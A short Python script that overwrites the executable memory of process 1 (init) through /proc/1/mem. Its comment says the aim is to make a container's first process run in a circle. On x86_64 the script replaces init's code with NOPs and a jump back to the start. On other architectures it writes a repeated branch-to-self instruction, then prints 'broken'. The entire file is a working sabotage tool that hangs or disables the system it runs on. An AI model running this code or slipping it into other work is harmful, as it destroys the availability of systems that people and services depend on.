# Makes the container's first process run in a circle, by its memory: its program becomes steps to a jump back.
import os
import struct

for line in open("/proc/1/maps"):
    if " r-xp " in line and "init" in line:
        first, last = (int(word, 16) for word in line.split()[0].split("-"))
        size = last - first
        x86 = b"\x90" * (size - 5) + b"\xe9" + struct.pack("<i", -size)
        with open("/proc/1/mem", "r+b", 0) as memory:
            memory.seek(first)
            memory.write(x86 if os.uname().machine == "x86_64" else b"\0\0\0\x14" * (size // 4))
        print("broken", flush=True)
